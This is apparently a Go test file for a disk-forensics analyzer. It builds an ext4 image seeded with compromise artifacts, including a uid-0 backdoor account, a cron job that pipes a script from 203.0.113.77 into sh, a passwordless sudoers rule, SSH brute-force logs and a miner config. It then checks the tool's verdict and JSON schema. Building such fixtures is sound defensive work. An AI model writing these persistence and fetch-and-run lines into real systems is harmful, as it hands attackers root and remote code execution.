package forensics_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics"
	"icecore/forensics/report"
)

var update = flag.Bool("update", false, "write the golden files anew")

// small makes an image of a few files with mke2fs, which needs no rights.
func small(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("mke2fs"); err != nil {
		t.Skip("no mke2fs (package e2fsprogs)")
	}
	dir := t.TempDir()
	tree := filepath.Join(dir, "tree")
	for name, content := range map[string]string{
		"etc/hostname":        "web01\n",
		"etc/os-release":      "ID=debian\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n",
		"etc/passwd":          "root:x:0:0:root:/root:/bin/bash\nsysupd:x:0:0::/var/tmp/.sysupd:/bin/bash\n",
		"etc/shadow":          "root:*:19700:0:99999:7:::\nsysupd:$6$inert$inert:19700:0:99999:7:::\n",
		"etc/cron.d/0sysstat": "* * * * * root curl -fsSL http://203.0.113.77/c.sh|sh\n",
		"etc/rc.local":        "#!/bin/sh\n/tmp/.x/a &\nexit 0\n",
		"etc/sudoers.d/zz":    "ALL ALL=(ALL) NOPASSWD: ALL\n",
		"etc/odd\x1b[2Jname":  "x",
		"var/log/auth.log": "2026-01-12T08:00:00.000000+00:00 web01 sshd[7]: Failed password for root from 203.0.113.77 port 30001 ssh2\n" +
			strings.Repeat("2026-01-12T08:00:02.000000+00:00 web01 sshd[8]: Failed password for root from 203.0.113.77 port 30002 ssh2\n", 60) +
			"2026-01-12T08:01:00.000000+00:00 web01 sshd[9]: Accepted password for root from 203.0.113.77 port 41022 ssh2\n",
		"tmp/.x/config.json": `{"pools":[{"url":"203.0.113.77:3333","user":"4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL"}],"donate-level":1}`,
	} {
		p := filepath.Join(tree, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	image := filepath.Join(dir, "small.raw")
	if out, err := exec.Command("mke2fs", "-q", "-t", "ext4", "-d", tree, image, "16M").CombinedOutput(); err != nil {
		t.Fatalf("mke2fs: %v: %s", err, out)
	}
	return image
}

// TestSmall: one and two workers give the same bytes, every claim can be checked at
// its source, and the verdict is the one that the files give.
func TestSmall(t *testing.T) {
	image := small(t)
	sameBytes(t, image)
	a, err := forensics.Analyze(t.Context(), image, forensics.Options{})
	if err != nil {
		t.Fatal(err)
	}
	checkSources(t, image, a)
	checkRecords(t, image, a)
	if a.Verdict.State != "compromised" || a.Verdict.Since.Time.Format(time.RFC3339Nano) != "2026-01-12T08:01:00Z" {
		t.Errorf("%+v", a.Verdict)
	}
}

// TestSchema compares the form of the JSON (names, order, types) with the golden
// file: a change of it is a change of the schema.
func TestSchema(t *testing.T) {
	a, err := forensics.Analyze(t.Context(), small(t), forensics.Options{Output: forensics.OutputOptions{HashImage: true}})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := report.JSON(&b, &a.Analysis); err != nil {
		t.Fatal(err)
	}
	if bytes.ContainsRune(b.Bytes(), 0x1b) {
		t.Error("an escape sequence of the image stands in the JSON")
	}
	got := shape(t, b.Bytes())
	const golden = "testdata/schema.golden"
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), got); d != "" {
		t.Errorf("the schema is another (-update writes it anew):\n%s", d)
	}
}

// TestEmptyArrays: what holds nothing is an empty array, never null; and of a volume without a
// system, the verdict claims nothing.
func TestEmptyArrays(t *testing.T) {
	if _, err := exec.LookPath("mke2fs"); err != nil {
		t.Skip("no mke2fs (package e2fsprogs)")
	}
	image := filepath.Join(t.TempDir(), "empty.raw")
	if out, err := exec.Command("mke2fs", "-q", "-t", "ext4", image, "4M").CombinedOutput(); err != nil {
		t.Fatalf("mke2fs: %v: %s", err, out)
	}
	a, err := forensics.Analyze(t.Context(), image, forensics.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := report.JSON(&b, &a.Analysis); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "null") {
		t.Errorf("null in %s", b.String())
	}
	for _, name := range []string{`"findings": []`, `"records": []`, `"story": []`, `"because": []`} {
		if !strings.Contains(b.String(), name) {
			t.Errorf("no %s in %s", name, b.String())
		}
	}
	if a.Verdict.State != "inconclusive" {
		t.Errorf("verdict %s", a.Verdict.State)
	}
}

// shape lists the names in a JSON text with the types of their values, in the order
// in which they first stand there; of the fields of records only that they are text.
func shape(t *testing.T, b []byte) string {
	t.Helper()
	d := json.NewDecoder(bytes.NewReader(b))
	d.UseNumber()
	var lines []string
	seen := make(map[string]bool)
	note := func(path, typ string) {
		if l := path + " " + typ; !seen[l] {
			seen[l] = true
			lines = append(lines, l)
		}
	}
	var value func(path string)
	value = func(path string) {
		tok, err := d.Token()
		if err != nil {
			t.Fatal(err)
		}
		switch tok := tok.(type) {
		case json.Delim:
			if tok == '[' {
				note(path, "array")
				for d.More() {
					value(path + "[]")
				}
			} else {
				note(path, "object")
				for d.More() {
					k, err := d.Token()
					if err != nil {
						t.Fatal(err)
					}
					name := k.(string)
					if strings.HasSuffix(path, ".fields") {
						name = "*"
					}
					value(strings.TrimPrefix(path+"."+name, "."))
				}
			}
			if _, err := d.Token(); err != nil {
				t.Fatal(err)
			}
		default:
			note(path, strings.TrimPrefix(fmt.Sprintf("%T", tok), "json."))
		}
	}
	value("")
	return strings.TrimSpace(strings.Join(lines, "\n")) + "\n"
}
